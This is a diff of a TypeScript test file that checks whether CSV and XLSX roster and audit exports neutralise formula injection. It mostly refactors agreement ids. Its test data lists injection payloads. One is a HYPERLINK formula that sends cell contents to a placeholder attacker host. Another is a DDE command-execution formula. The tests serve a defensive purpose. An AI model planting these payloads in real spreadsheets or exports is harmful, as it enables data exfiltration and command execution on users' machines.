@@ -7,7 +7,8 @@ import { after, before, describe, test } from 'node:test';
 import assert from 'node:assert/strict';
 import { PassThrough, type Writable } from 'node:stream';
 import ExcelJS from 'exceljs';
-import { createHarness, demoAgreementData, type Harness } from '../testing/harness.ts';
+import { createHarness, type Harness } from '../testing/harness.ts';
+import { demoAgreement } from '../testing/builders.ts';
 import { csvField, guardCell, safeXlsxBuffer, unguardCell } from './spreadsheet.ts';
 
 const ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'];
@@ -48,28 +49,29 @@ test('safeXlsxBuffer guards every text cell of every sheet', async () => {
 
 describe('roster export with formula-looking text', () => {
   let h: Harness;
+  let agreementId: number;
   before(async () => {
     h = await createHarness({ today: '2023-01-10' });
-    await h.services.agreements.importFile(h.admin, demoAgreementData());
-    const unit = await h.services.units.create(h.admin, { agreementId: 1, code: 'DINKES', name: 'Dinas Kesehatan' });
+    agreementId = await demoAgreement(h);
+    const unit = await h.services.units.create(h.admin, { agreementId, code: 'DINKES', name: 'Dinas Kesehatan' });
     await h.services.roster.create(h.admin, { nik: '7409014508900001', fullName: 'Siti Aminah', sex: 'P', birthDate: '1990-08-05', workUnitId: unit.id, employmentType: 'honorer', startDate: '2020-01-02', position: ATTACKS[0], address: ATTACKS[1] });
     await h.services.roster.create(h.admin, { nik: '7409010101850001', fullName: 'La Ode Budi', sex: 'L', birthDate: '1985-01-01', workUnitId: unit.id, employmentType: 'kontrak', startDate: '2021-01-04', position: ATTACKS[2], address: ATTACKS[4] });
   });
   after(() => h.close());
 
   test('CSV: guarded cells, NIK as plain digits, and it imports back unchanged', async () => {
-    const csv = (await collect((out) => h.services.rosterFiles.export(h.admin, { agreementId: 1, status: 'all' }, 'csv', out))).toString('utf8');
+    const csv = (await collect((out) => h.services.rosterFiles.export(h.admin, { agreementId, status: 'all' }, 'csv', out))).toString('utf8');
     assert.doesNotMatch(csv, /(^|;)(=|\+|@|-\d)/m, 'no field starts a formula');
     assert.match(csv, /^7409014508900001;Siti Aminah;/m, 'NIK as text, not ="…"');
     assert.match(csv, /;"'=HYPERLINK\(""http:\/\/evil\.example\/\?x=""&A1,""klik""\)";/);
     assert.match(csv, /;'\+1\+1;/);
     assert.match(csv, /;'@SUM\(1\+1\)/);
-    const back = await h.services.rosterFiles.preview(h.admin, { fileName: 'ekspor.csv', content: Buffer.from(csv), agreementId: 1 });
+    const back = await h.services.rosterFiles.preview(h.admin, { fileName: 'ekspor.csv', content: Buffer.from(csv), agreementId });
     assert.deepEqual(back.counts, { total: 2, new: 0, changed: 0, unchanged: 2, errors: 0 });
   });
 
   test('XLSX: guarded text cells, NIK a text cell, and it imports back unchanged', async () => {
-    const xlsx = await collect((out) => h.services.rosterFiles.export(h.admin, { agreementId: 1, status: 'all' }, 'xlsx', out));
+    const xlsx = await collect((out) => h.services.rosterFiles.export(h.admin, { agreementId, status: 'all' }, 'xlsx', out));
     const wb = new ExcelJS.Workbook();
     await wb.xlsx.load(xlsx as unknown as ArrayBuffer);
     const sheet = wb.worksheets[0]!;
@@ -81,14 +83,14 @@ describe('roster export with formula-looking text', () => {
     assert.equal(siti.getCell(col('Jabatan')).value, `'${ATTACKS[0]}`);
     assert.equal(siti.getCell(col('Alamat')).value, `'${ATTACKS[1]}`);
     assert.equal(sheet.getRow(3).getCell(col('Jabatan')).value, "'+1+1");
-    const back = await h.services.rosterFiles.preview(h.admin, { fileName: 'ekspor.xlsx', content: xlsx, agreementId: 1 });
+    const back = await h.services.rosterFiles.preview(h.admin, { fileName: 'ekspor.xlsx', content: xlsx, agreementId });
     assert.deepEqual(back.counts, { total: 2, new: 0, changed: 0, unchanged: 2, errors: 0 });
   });
 
   test('audit trail XLSX: a person whose name starts a formula is written as text', async () => {
     const user = await h.login('admin', 'penyusup');
     await h.handle.db.updateTable('users').set({ full_name: ATTACKS[0]! }).where('username', '=', 'penyusup').execute();
-    const res = await user.request({ method: 'POST', url: '/api/v1/units', payload: { agreementId: 1, code: 'DISDIK', name: '@SUM(1+1)' } });
+    const res = await user.request({ method: 'POST', url: '/api/v1/units', payload: { agreementId, code: 'DISDIK', name: '@SUM(1+1)' } });
     assert.equal(res.statusCode, 201, res.body);
     const wb = new ExcelJS.Workbook();
     await wb.xlsx.load((await h.services.audit.exportXlsx(h.admin, {})) as unknown as ArrayBuffer);
